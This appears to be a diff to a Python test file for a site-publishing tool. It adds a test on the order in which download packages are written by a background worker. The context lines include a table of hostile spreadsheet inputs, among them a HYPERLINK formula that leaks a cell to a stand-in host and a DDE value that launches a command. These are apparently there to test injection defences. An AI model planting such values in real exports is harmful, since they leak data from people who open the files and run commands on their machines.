@@ -23,6 +23,8 @@ from planpub.package import format_value
 from planpub.page import esc
 from planpub.schema import RESOURCES, contract, field_names
 
+from .conftest import Given
+
 HOSTILE = {
     "i001": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
     "i002": "+cmd|' /C calc'!A0",
@@ -175,6 +177,19 @@ def test_downloads_are_byte_identical_when_written_again_later_in_another_proces
     for folder in (built.site / "downloads").iterdir():
         for path in folder.iterdir():
             assert (tmp_path / folder.name / path.name).read_bytes() == path.read_bytes(), f"{folder.name}/{path.name} changed"
+
+
+def test_downloads_are_asked_for_last_given_first_and_listed_in_package_order(built, tmp_path, monkeypatch):
+    """The build writes what its worker has not started yet instead of waiting for it (planpub.background)."""
+    monkeypatch.setattr(cache, "_active", cache.Cache(None))  # nothing written before: every package is given out
+    given, asked = [], []
+
+    def submit(task, folder, *args) -> Given:
+        return Given(folder.name, {"id": folder.name}, given, asked)
+
+    listings = downloads.write_downloads(built.packages, tmp_path, catalog(built), texts(built), submit)()
+    assert given[0] == "all" and len(given) == 6 and asked == given[::-1]
+    assert [listing["id"] for listing in listings] == given
 
 
 def test_zip_and_xlsx_carry_the_release_date_not_the_clock(built):
